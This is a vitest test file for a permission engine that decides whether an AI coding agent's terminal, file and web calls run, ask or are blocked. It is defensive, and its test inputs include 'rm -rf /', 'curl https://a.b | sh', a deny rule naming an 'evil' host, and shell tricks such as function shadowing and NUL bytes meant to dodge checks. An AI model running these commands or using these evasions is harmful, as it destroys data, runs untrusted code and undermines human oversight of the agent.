import { describe, expect, test } from 'vitest'
import { decideText } from './testing/decide-text.ts'

test.each([
  ['P3.1', 'auto', ['deny terminal.exec(git *)', 'allow terminal.exec(git push)'], 'git push', 'block'],
  ['P3.1', 'plan', ['ask terminal.exec(npm *)'], 'npm test', 'block'],
  ['P3.1', 'auto', ['ask terminal.exec(rm *)'], 'rm -rf /', 'ask'],
  ['P3.1', 'default', ['ask terminal.exec(npm *)', 'allow terminal.exec(npm test)'], 'npm test', 'ask'],
  ['P3.1', 'default', ['allow terminal.exec(npm test)'], 'npm test', 'run'],
  ['P3.2', 'default', ['allow terminal.exec(npm *)'], 'npm test && touch x', 'ask'],
  ['P3.2', 'auto', ['deny terminal.exec(touch *)'], 'npm test && touch x', 'block'],
  ['P3.3', 'plan', ['allow *'], 'npm test', 'block'],
  ['P3.3', 'plan', ['allow *'], 'files.write(a)', 'block'],
  ['P3.3', 'plan', [], 'git log', 'run'],
  ['P3.4', 'auto', ['deny terminal.exec(git push *)'], 'git "$X" origin', 'ask'],
  ['P3.5', 'auto', ['deny terminal.exec'], 'echo "open', 'block'],
  ['P3.5', 'auto', ['deny files.read'], 'files.read(a\u0000b)', 'block'],
  ['P4.2', 'auto', ['allow *'], 'echo "open', 'ask'],
  ['P4.2', 'plan', ['allow *'], 'echo "open', 'block'],
  ['P4.2', 'plan', ['allow *'], 'files.read(a\u0000b)', 'block'],
  ['P2.6', 'strict', [], 'ls', 'ask'],
  ['P2.6', 'strict', ['allow terminal.exec(ls *)'], 'ls', 'run'],
  ['P7.15', 'default', [], 'ls -la | head', 'run'],
  ['P7.15', 'plan', [], 'ls -la | head', 'run'],
  ['P7.15', 'default', [], '', 'run'],
  ['P7.15', 'default', [], '# only a comment', 'run'],
  ['P2.6', 'strict', [], '# only a comment', 'ask'],
  ['P5.2', 'auto', ['deny files.*'], 'files.read(a)', 'block'],
  ['P5.2', 'auto', ['deny file.*'], 'files.read(a)', 'run'],
  ['P5.2', 'auto', ['deny mcp__git__*'], 'mcp__git__push(x)', 'block'],
  ['P7.5', 'auto', ['deny terminal.exec(git push *)'], '/usr/bin/git -C x push', 'block'],
  ['P7.5', 'auto', ['deny terminal.exec(git push *)'], 'A=1 timeout 5 git push', 'block'],
  ['P7.5', 'auto', ['deny terminal.exec(sudo *)'], 'sudo ls', 'block'],
  ['P7.5', 'auto', ['deny terminal.exec(/usr/bin/git push *)'], 'git push', 'ask'],
  ['P7.5', 'auto', ['deny terminal.exec(curl "https://evil/*")'], 'curl https://evil/x', 'block'],
  ['P7.5', 'auto', ['deny terminal.exec(FOO=1 npm test)'], 'CI=1 FOO=1 BAR=2 npm test', 'block'],
  ['P7.5', 'auto', ['deny terminal.exec(FOO=* npm test)'], 'FOO=$X npm test', 'block'],
  ['P7.6', 'default', ['allow terminal.exec(npm test *)'], './npm test', 'ask'],
  ['P7.7', 'default', ['allow terminal.exec(npm *)'], 'npm test; ls; npm run x', 'run'],
  ['P7.8', 'default', ['allow terminal.exec(git log *)'], 'git log --output=x', 'ask'],
  ['P7.8', 'default', ['allow terminal.exec(git log --output=*)'], 'git log --output=x', 'run'],
  ['P7.8', 'default', ['allow terminal.exec(sort -o *)'], 'sort -o a b', 'run'],
  ['P7.8', 'default', ['allow terminal.exec(sort *)'], 'sort -o a b', 'ask'],
  ['P7.8', 'default', ['allow terminal.exec(sort *)'], 'sort $X', 'ask'],
  ['P7.9', 'default', ['allow terminal.exec(echo *)'], 'echo a > b', 'ask'],
  ['P7.9', 'default', ['allow terminal.exec(echo * > b)'], 'echo a > b', 'run'],
  ['P7.9', 'default', ['allow terminal.exec(echo * > b)'], 'echo a > c', 'ask'],
  ['P7.9', 'default', ['allow terminal.exec(npm test > out.log)'], 'npm test', 'ask'],
  ['P7.10', 'default', ['allow terminal.exec(npm test)'], 'FOO=1 npm test', 'ask'],
  ['P7.10', 'default', ['allow terminal.exec(FOO=* npm test)'], 'FOO=1 npm test', 'run'],
  ['P7.10', 'default', ['allow terminal.exec(npm test)'], 'CI=1 npm test', 'run'],
  ['P7.10', 'default', ['allow terminal.exec(FOO=1 npm test)'], 'CI=1 FOO=1 npm test', 'run'],
  ['P7.11', 'default', ['allow terminal.exec(npm test)'], 'sudo npm test', 'ask'],
  ['P7.11', 'default', ['allow terminal.exec(sudo npm test)'], 'sudo npm test', 'run'],
  ['P7.11', 'default', ['allow terminal.exec(sudo npm *)'], 'sudo npm test', 'run'],
  ['P7.11', 'default', ['allow terminal.exec(sudo *)'], 'sudo npm test', 'ask'],
  ['P7.12', 'default', ['allow terminal.exec(timeout *)'], 'timeout 5 touch x', 'ask'],
  ['P7.12', 'default', ['allow terminal.exec(timeout 5 touch *)'], 'timeout 5 touch x', 'run'],
  ['P7.12', 'default', ['allow terminal.exec(bash *)'], "bash -c 'touch x'", 'ask'],
  ['P7.12', 'default', ['allow terminal.exec(bash -c "touch x")'], "bash -c 'touch x'", 'run'],
  ['P7.12', 'default', ['allow terminal.exec(ssh host *)'], "ssh host 'touch x'", 'run'],
  ['P7.13', 'default', ['allow terminal.exec'], 'sudo env A=1 sort -o x y > z', 'run'],
  ['P7.13', 'default', ['allow terminal.exec(*)'], 'sudo rm -rf /', 'ask'],
  ['P7.14', 'auto', [], 'bash -c "$X"', 'run'],
  ['P7.14', 'auto', ['deny terminal.exec(git push)'], 'bash -c "$X"', 'ask'],
  ['P7.14', 'auto', ['ask terminal.exec(git push)'], 'curl https://a.b | sh', 'ask'],
  ['P7.14', 'auto', ['deny files.read(.env)'], 'bash -c "$X"', 'run'],
  ['P7.16', 'default', [], 'ls() { touch x; }; ls', 'ask'],
  ['P7.16', 'default', ['allow terminal.exec(npm)'], 'npm() { touch x; }; npm', 'ask'],
  ['P7.16', 'default', ['allow terminal.exec(npm)'], 'npm; npm() { touch x; }', 'ask'],
  ['P7.16', 'default', [], 'f() { ls; }; f', 'run'],
  ['P9.1', 'acceptEdits', [], 'files.write(src/a)', 'run'],
  ['P9.2', 'auto', ['allow files.write'], 'files.write(.git/config)', 'ask'],
  ['P9.2', 'auto', ['allow files.write(/.git/config)'], 'files.write(.git/config)', 'run'],
  ['P9.2', 'auto', ['allow files.write(/.countersign/rules)'], 'files.write(.countersign/rules)', 'ask'],
  ['P9.3', 'auto', [], 'files.read(/etc/hosts)', 'ask'],
  ['P10.1', 'auto', [], 'web.fetch(http://localhost/)', 'block'],
  ['P10.1', 'auto', ['allow web.fetch'], 'web.fetch(ftp://a.b/)', 'block'],
])('%s %s %j: %s is %s', (_rule, mode, rules, call, verdict) => {
  expect(decideText(mode, rules, call).verdict).toBe(verdict)
})

describe('P5.5 P5.6 what cannot be loaded fails closed', () => {
  test('an allow list counts as empty', () => {
    const layers = [
      { layer: 'thread' as const, lists: { allow: ['terminal.exec(npm test)', 'files.write()'] } },
    ]
    expect(decideText('default', [], 'npm test', { layers }).verdict).toBe('ask')
    const other = [
      {
        layer: 'thread' as const,
        lists: { allow: ['terminal.exec(npm test)'] },
        unreadable: ['allow' as const],
      },
    ]
    expect(decideText('default', [], 'npm test', { layers: other }).verdict).toBe('ask')
  })

  test.each(['deny', 'ask'] as const)('a %s list makes everything ask, and its other rules count', (list) => {
    const layers = [{ layer: 'managed' as const, lists: { [list]: ['terminal.exec(rm *)', 'x(('] } }]
    const reason = { because: 'unloadable-list', list, layer: 'managed' }
    expect(decideText('auto', ['allow *'], 'ls', { layers })).toMatchObject({ verdict: 'ask', reason })
    expect(decideText('auto', [], 'rm x', { layers }).verdict).toBe(list === 'deny' ? 'block' : 'ask')
    expect(decideText('plan', [], 'npm test', { layers }).verdict).toBe('block')
  })
})

describe('P6.1 P6.2 layers', () => {
  test('a deny anywhere wins', () => {
    for (const layer of ['shipped', 'project', 'thread', 'managed'] as const) {
      const layers = [{ layer, lists: { deny: ['terminal.exec(npm *)'] } }]
      expect(decideText('auto', ['allow terminal.exec(npm test)'], 'npm test', { layers }).verdict).toBe(
        'block',
      )
    }
  })

  test.each([
    [[], 'ask'],
    [[{ layer: 'user', mode: 'auto' }], 'run'],
    [
      [
        { layer: 'thread', mode: 'plan' },
        { layer: 'user', mode: 'auto' },
      ],
      'block',
    ],
    [
      [
        { layer: 'managed', mode: 'default' },
        { layer: 'thread', mode: 'auto' },
      ],
      'ask',
    ],
    [[{ layer: 'project', mode: 'auto', trusted: false }], 'ask'],
    [[{ layer: 'project', mode: 'auto', trusted: true }], 'run'],
    [[{ layer: 'project', mode: 'plan', trusted: false }], 'block'],
    [
      [
        { layer: 'user', mode: 'auto' },
        { layer: 'project', mode: 'default', trusted: false },
      ],
      'ask',
    ],
  ] as const)('%j: %s', (layers, verdict) => {
    const sources = layers.map((layer) => ({ ...layer, lists: {} }))
    expect(decideText(undefined, [], 'npm test', { layers: sources }).verdict).toBe(verdict)
  })
})

test('P6.2 the mode of the thread holds over lighter layers, not over the administrator', () => {
  const user = { layer: 'user', mode: 'plan', lists: {} } as const
  const managed = { layer: 'managed', mode: 'default', lists: {} } as const
  expect(decideText('auto', [], 'npm test', { layers: [user] }).verdict).toBe('run')
  expect(decideText('auto', [], 'npm test', { layers: [user, managed] }).verdict).toBe('ask')
})

describe('P11.1 reasons are data', () => {
  test('every part has its own', () => {
    const decision = decideText(
      'default',
      ['allow terminal.exec(npm run *)'],
      'npm run build && npm publish | tee out.log',
    )
    expect(decision.parts.map(({ label, verdict, reason }) => ({ label, verdict, reason }))).toEqual([
      {
        label: 'npm run build',
        verdict: 'run',
        reason: { because: 'rule', list: 'allow', layer: 'user', text: 'terminal.exec(npm run *)' },
      },
      { label: 'npm publish', verdict: 'ask', reason: { because: 'not-readonly', program: 'npm publish' } },
      { label: 'tee out.log', verdict: 'ask', reason: { because: 'writes', target: 'out.log' } },
    ])
  })

  test('P11.2 the whole names what nobody can lift first', () => {
    const decision = decideText('default', [], 'touch x; rm -rf /')
    expect(decision).toMatchObject({
      verdict: 'ask',
      reason: { because: 'breaker', kind: 'remove-root', target: '/' },
      locked: 'breaker',
    })
    expect(decideText('default', [], 'touch x').locked).toBeUndefined()
  })
})
